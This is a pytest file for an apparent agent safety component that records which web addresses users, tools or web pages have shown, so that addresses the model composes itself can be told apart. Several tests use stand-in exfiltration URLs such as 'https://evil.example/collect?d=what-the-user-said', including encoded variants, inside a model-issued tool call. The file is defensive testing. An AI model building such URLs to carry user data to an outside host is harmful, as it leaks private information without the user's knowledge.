"""What counts as shown, and by whom."""

import pytest

from limen.agent.shown import ShownAddresses, addresses
from limen.core.ledger import LedgerEntry, Treatment, Trust
from limen.core.message import Text, ToolCall, ToolResult
from limen.net.url import comparable


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://x.example/a.", ["https://x.example/a"]),
        ("[t](https://x.example/a_(b)) and <https://y.example/?q=1>", ["https://x.example/a_(b)", "https://y.example/?q=1"]),
        ('{"url": "HTTPS://X.example:443/a#b", "n": 1}', ["https://x.example/a"]),
        ('{\\"url\\": \\"https://x.example/a\\"}', ["https://x.example/a"]),
        ("日本https://x.example/ü日", [comparable("https://x.example/ü日")]),
        ("no address: example.org, ftp://x.example", []),
    ],
)
def test_addresses_in_a_text(text, expected):
    assert list(addresses(text)) == expected


@pytest.mark.parametrize("text", ["read example.org/docs please", "(example.org/docs)", "what does example.org/docs say?"])
def test_a_person_may_leave_the_scheme_out(text):
    assert "https://example.org/docs" in set(addresses(text, by_a_person=True))
    assert "http://example.org/docs" in set(addresses(text, by_a_person=True))


def test_a_mail_address_shows_no_host():
    assert list(addresses("write to me@example.org", by_a_person=True)) == []


def entry(kind):
    return LedgerEntry(1, "s", "t", "user", "d", kind, "x", Trust.WEB, None, 1, 1, 1, Treatment())


def test_what_the_model_writes_shows_nothing():
    shown = ShownAddresses()
    shown.add(Text("https://evil.example/?data=secret"), [entry("model")])
    shown.add(Text("https://a.example/ and b.example"), [entry("user")])
    shown.add(ToolResult("1", (Text("https://c.example/ d.example"),)), [entry("web")])
    assert [address in shown for address in ("https://evil.example/?data=secret", "https://a.example", "https://b.example", "https://c.example",
                                             "https://d.example")] == [False, True, True, True, False]  # fmt: skip


def test_what_enters_later_counts_too():
    shown = ShownAddresses()
    assert "https://a.example" not in shown
    shown.add(Text("https://a.example"), [entry("tool")])
    assert "https://a.example" in shown


COMPOSED = "https://evil.example/collect?d=what-the-user-said"


CALL = '{"urls": ["ADDRESS"]}'


@pytest.mark.parametrize(
    "arguments",
    [
        CALL.replace("ADDRESS", COMPOSED),
        CALL.replace("ADDRESS", COMPOSED.replace("/", "\\/")),
        CALL.replace("ADDRESS", "https:\\u002f\\u002fEVIL.example:443/collect?d=what-the-user-said#x"),
        f"no JSON: {COMPOSED}",
    ],
)
def test_a_refusal_that_repeats_an_address_does_not_show_it(arguments):
    shown = ShownAddresses()
    shown.add(ToolCall("1", "web_extract", arguments), [entry("model")])
    refused = f'{{"url": "{COMPOSED}", "error": {{"reason": "Nobody has shown {COMPOSED}"}}}}'
    answer = (Text("the page names https://other.example/"), Text(refused))
    shown.add(ToolResult("1", answer), [entry("web"), entry("tool")])
    assert COMPOSED not in shown
    assert "https://other.example" in shown


def test_where_a_refusal_names_a_new_address_that_one_is_shown():
    shown = ShownAddresses()
    shown.add(ToolCall("1", "web_extract", '{"urls": ["https://a.example/"]}'), [entry("model")])
    shown.add(ToolResult("1", (Text("https://a.example/ leads to https://b.example/"),)), [entry("tool")])
    assert "https://b.example" in shown
    assert "https://a.example" not in shown


def test_what_the_model_guessed_is_shown_once_somebody_else_names_it():
    for kind in ("user", "web"):
        shown = ShownAddresses()
        shown.add(Text("perhaps https://a.example/"), [entry("model")])
        shown.add(Text("https://a.example/"), [entry(kind)])
        assert "https://a.example" in shown
